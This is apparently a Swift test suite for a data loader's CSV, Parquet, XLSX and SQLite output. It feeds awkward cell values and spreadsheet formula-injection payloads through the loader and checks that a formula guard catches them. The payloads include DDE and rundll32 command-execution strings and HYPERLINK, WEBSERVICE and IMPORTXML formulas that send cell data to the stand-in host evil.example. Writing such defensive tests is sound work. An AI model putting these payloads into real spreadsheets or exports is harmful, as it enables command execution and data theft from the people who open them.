import Glibc
import Model
import Testing

@testable import Load

/// Runs for `Tests/Conformance/check_output.py`, written where `WINNOW_LOAD_OUTPUT` says.
@Suite struct ConformanceOutputTests {
    /// Cells that are read wrongly as soon as one rule of CSV, JSON or Parquet is forgotten.
    static let awkward = [
        "", " ", "null", "NA", "\"", "\"\"", ",", ";", "\\", "'", "''", "\r", "\n", "\r\n", "\t",
        "=1+1", "+1", "-1", "@a", "＝1", "　=1", " =cmd|' /C calc'!A0", "\"=1\"", "1,234",
        "123456789012", "00012", "1e5", "true", "2022-03-10", "a\"b,c\nd", "ends with \"", "末尾 ",
        "\u{FEFF}首", "\u{0}x", "e\u{301}", "é", "😀", "\u{1F468}\u{200D}\u{1F469}", "𠮷野家",
        "\u{2028}",
        "\u{85}", "a\u{0B}b", "_x0001_", "</script>", "%s%n", "#", "# 注", "--", "[]", "{}",
    ]

    /// Cells that a spreadsheet would run, link or ask the network for if it took them for formulas.
    static let attacks: [String] = {
        let formulas = [
            "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
            "WEBSERVICE(\"http://evil.example/\"&A1)", "IMPORTXML(\"http://evil.example\",\"//a\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")", "rundll32|'URL.dll,OpenURL calc.exe'!A",
        ]
        let starts = ["=", "+", "-", "@", "=+", "+=", " =", "\t=", "　=", "＝", "＋", "－", "＠"]
        var cells: [String] = []
        for (index, start) in starts.enumerated() {
            for offset in 0..<4 {
                cells.append(start + formulas[(index + 2 * offset) % formulas.count])
            }
        }
        return cells + [
            "\r=1+1", "\n=1+1", "\r\n=1+1", "\"=1+1\"", "'=1+1", "1\n=1+1", "a,=1+1", ";=1+1",
            "|=1+1",
            "=1+1\",=2+2", "\u{FEFF}=1+1", "=\u{0}1+1", "0=1", "1e5", "００１", "320200198001011234",
            "TRUE", "2022-03-10", "12:30", "1/2", "+86 510 8888 8888", "-5%", "@某人",
        ]
    }()

    static var attacked: Dataset {
        var data = Dataset()
        data.rejects = attacks.sorted { $0.utf8.lexicographicallyPrecedes($1.utf8) }.map {
            RejectRow(source: $0, stage: "extract", code: $0, message: $0, sha256: $0)
        }
        return data
    }

    static var hostile: Dataset {
        var data = Dataset()
        data.articles = awkward.enumerated().map { index, text in
            ArticleRow(
                articleID: "art_\(1000 + index)", source: text, url: index % 3 == 0 ? nil : text,
                articleNumber: 1, copies: 0, title: index % 5 == 0 ? nil : text + "标题",
                authors: Array(repeating: text + "者", count: index % 4), script: "Hans",
                status: "kept", truncated: index % 2 == 0, characterCount: index,
                text: Array(text.utf8))
        }
        data.rejects = awkward.sorted { $0.utf8.lexicographicallyPrecedes($1.utf8) }.map {
            RejectRow(source: $0, stage: "extract", code: "binary", message: $0, sha256: nil)
        }
        return data
    }

    @Test(.enabled(if: getenv("WINNOW_LOAD_OUTPUT") != nil))
    func writeForTheReaders() throws {
        let root = String(cString: try #require(getenv("WINNOW_LOAD_OUTPUT")))
        try OutputFolder.make(root)
        let sets = [
            ("sample", sampleDataset()), ("hostile", Self.hostile), ("attacks", Self.attacked),
            ("empty", Dataset()),
        ]
        for (name, data) in sets {
            #expect(try KeyChecker().check(data) == [])
            for flavour in CSVFlavour.allCases {
                let folder = "\(root)/\(name)-\(flavour.rawValue)"
                try OutputFolder.make(folder)
                let loader = Loader(
                    configuration: .init(sinks: [
                        .csv(flavour: flavour), .parquet(compression: .gzip, level: 6),
                        .xlsx(language: flavour == .plain ? .en : .zh), .sqlite,
                    ]))
                _ = try loader.load(data, into: folder)
            }
        }
    }

    @Test func attacksAreManyAndGuarded() {
        #expect(Self.attacks.count >= 60 && Set(Self.attacks).count == Self.attacks.count)
        let guarded = Self.attacks.filter { FormulaGuard.applies(to: Array($0.utf8).span) }
        #expect(guarded.count >= 60)
    }

    /// The hostile cells are also a plain test: they are written, and the same again.
    @Test func hostileCellsAreWritten() throws {
        let files = try Loader().load(Self.hostile, into: try temporaryFolder())
        #expect(files.first { $0.path == "csv/rejects.csv" }?.rowCount == Self.awkward.count)
    }
}
